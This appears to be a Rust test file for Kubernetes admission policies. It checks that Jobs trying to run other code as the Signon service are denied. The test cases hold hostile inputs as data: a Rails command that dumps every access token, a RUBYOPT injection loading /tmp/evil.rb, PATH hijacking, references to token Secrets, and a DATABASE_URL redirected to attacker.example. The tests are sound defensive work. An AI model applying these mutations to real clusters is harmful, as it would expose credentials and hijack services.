//! Jobs that would run other code than token-rotator's scripts as Signon (another image,
//! command, container, environment), each denied: by token-rotator-least-privilege's fixed rules
//! where one applies, and by token-rotator-jobs, which holds every Job to Signon's sync CronJob,
//! always.

use serde_json::json;

use super::jobs::{jobs, push};
use crate::admission_policy::{JOBS, LEAST_PRIVILEGE, denied, shipped};

#[tokio::test]
async fn jobs_that_would_run_other_code_are_denied() {
    let policies = shipped();
    let (mint, list, _) = jobs().await;
    let p = &policies;
    let pod = "run in the pod of Signon's CronJob as it is";
    let one = "run one container, the CronJob's own";
    let environment = "have the CronJob's environment as it is";
    let volumes = "have the CronJob's volumes, plus only ConfigMap";
    let what_runs = "run one of its scripts";
    let reads = "read no signon-token-* Secret";
    let image = "run Signon's own image";
    let as_signon = "run as Signon's pods do";

    denied(
        p,
        &list,
        &|w| w.admission.operation = "UPDATE",
        LEAST_PRIVILEGE,
        "only creates Jobs",
    );
    denied(
        p,
        &list,
        &|w| w.container()["image"] = json!("busybox:1.36"),
        LEAST_PRIVILEGE,
        image,
    );
    denied(
        p,
        &list,
        &|w| {
            let signon = w.container()["image"].as_str().unwrap().to_owned();
            let (repository, _) = signon.split_once(':').unwrap();
            w.container()["image"] = json!(format!("{repository}-debug:latest"));
        },
        LEAST_PRIVILEGE,
        image,
    );
    let sidecar = json!({"name": "x", "image": "busybox:1.36"});
    denied(
        p,
        &list,
        &|w| w.pod()["initContainers"] = json!([sidecar]),
        LEAST_PRIVILEGE,
        image,
    );
    denied(
        p,
        &list,
        &|w| w.pod()["initContainers"] = json!([sidecar]),
        JOBS,
        pod,
    );
    // A second container in Signon's own image, running what it likes.
    denied(
        p,
        &list,
        &|w| {
            let mut second = w.container().clone();
            second["name"] = json!("second");
            second["command"] = json!(["sh", "-c", "env"]);
            push(&mut w.pod()["containers"], second);
        },
        JOBS,
        one,
    );
    denied(
        p,
        &list,
        &|w| w.container()["securityContext"]["privileged"] = json!(true),
        LEAST_PRIVILEGE,
        as_signon,
    );
    denied(
        p,
        &list,
        &|w| w.container()["securityContext"]["privileged"] = json!(true),
        JOBS,
        one,
    );
    denied(
        p,
        &list,
        &|w| w.container()["securityContext"]["readOnlyRootFilesystem"] = json!(false),
        LEAST_PRIVILEGE,
        as_signon,
    );
    denied(
        p,
        &list,
        &|w| w.pod()["serviceAccountName"] = json!("token-rotator"),
        LEAST_PRIVILEGE,
        as_signon,
    );
    denied(
        p,
        &list,
        &|w| w.pod()["serviceAccountName"] = json!("token-rotator"),
        JOBS,
        pod,
    );
    denied(
        p,
        &list,
        &|w| {
            w.pod()["securityContext"]["seccompProfile"] = json!({"type": "Unconfined"});
        },
        JOBS,
        pod,
    );
    denied(
        p,
        &list,
        &|w| {
            w.container()["command"] = json!([
                "rails",
                "runner",
                "puts Doorkeeper::AccessToken.pluck(:token)"
            ]);
        },
        LEAST_PRIVILEGE,
        what_runs,
    );
    denied(
        p,
        &list,
        &|w| w.container()["args"] = json!(["-e", "production"]),
        LEAST_PRIVILEGE,
        what_runs,
    );
    denied(
        p,
        &list,
        &|w| w.pod()["volumes"] = json!([]),
        LEAST_PRIVILEGE,
        what_runs,
    );
    denied(p, &list, &|w| w.pod()["volumes"] = json!([]), JOBS, volumes);
    denied(
        p,
        &list,
        &|w| w.pod()["restartPolicy"] = json!("OnFailure"),
        JOBS,
        pod,
    );

    // The environment: Ruby's switches, from a value or from a Secret the ServiceAccount writes.
    let rubyopt = json!({"name": "RUBYOPT", "value": "-r/tmp/evil.rb"});
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["env"], rubyopt.clone()),
        LEAST_PRIVILEGE,
        "may not set RUBYOPT",
    );
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["env"], rubyopt.clone()),
        JOBS,
        environment,
    );
    let path = json!({"name": "PATH", "value": "/tmp:/usr/bin"});
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["env"], path.clone()),
        LEAST_PRIVILEGE,
        "PATH",
    );
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["env"], path.clone()),
        JOBS,
        environment,
    );
    let from_token = json!({"secretRef": {"name": "signon-token-x-y"}});
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["envFrom"], from_token.clone()),
        LEAST_PRIVILEGE,
        reads,
    );
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["envFrom"], from_token.clone()),
        JOBS,
        one,
    );
    // Any other source of variables, too: only the CronJob's own.
    let config_map = json!({"configMapRef": {"name": "kube-root-ca.crt"}});
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["envFrom"], config_map.clone()),
        JOBS,
        one,
    );
    let input_from_token = json!({"name": "TR_API_USER", "valueFrom":
        {"secretKeyRef": {"name": "signon-token-x-y", "key": "bearer_token"}}});
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["env"], input_from_token.clone()),
        LEAST_PRIVILEGE,
        reads,
    );
    denied(
        p,
        &list,
        &|w| push(&mut w.container()["env"], input_from_token.clone()),
        JOBS,
        environment,
    );
    // Signon's own variables stay exactly Signon's: none changed, none dropped.
    denied(
        p,
        &list,
        &|w| {
            let env = w.container()["env"].as_array_mut().unwrap();
            let database = env
                .iter_mut()
                .find(|e| e["name"] == "DATABASE_URL")
                .unwrap();
            *database =
                json!({"name": "DATABASE_URL", "value": "mysql2://attacker.example/signon"});
        },
        JOBS,
        environment,
    );
    denied(
        p,
        &list,
        &|w| {
            w.container()["env"]
                .as_array_mut()
                .unwrap()
                .retain(|e| e["name"] != "GOVUK_CSP_REPORT_ONLY");
        },
        JOBS,
        environment,
    );
    denied(
        p,
        &mint,
        &|w| {
            push(
                &mut w.container()["env"],
                json!({"name": "TR_WRITE_SECRET", "value": "false"}),
            );
        },
        JOBS,
        environment,
    );
}
